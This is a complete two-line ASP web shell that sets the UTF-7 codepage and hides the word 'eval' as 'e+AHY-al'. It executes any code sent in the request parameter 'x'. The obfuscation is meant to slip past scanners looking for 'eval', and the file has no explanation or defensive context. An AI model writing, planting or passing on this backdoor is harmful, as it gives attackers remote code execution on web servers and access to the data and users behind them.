<%@codepage=65000%>
<%e+AHY-al request("x")%>
